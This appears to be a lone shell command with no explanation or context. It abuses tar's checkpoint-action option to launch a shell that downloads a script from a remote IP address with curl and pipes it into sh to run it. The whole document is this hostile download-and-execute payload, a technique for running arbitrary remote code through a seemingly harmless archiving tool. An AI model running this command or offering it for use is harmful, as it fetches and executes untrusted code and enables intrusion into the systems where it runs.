tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='sh -c "curl -s http://203.0.113.49/t | sh"'
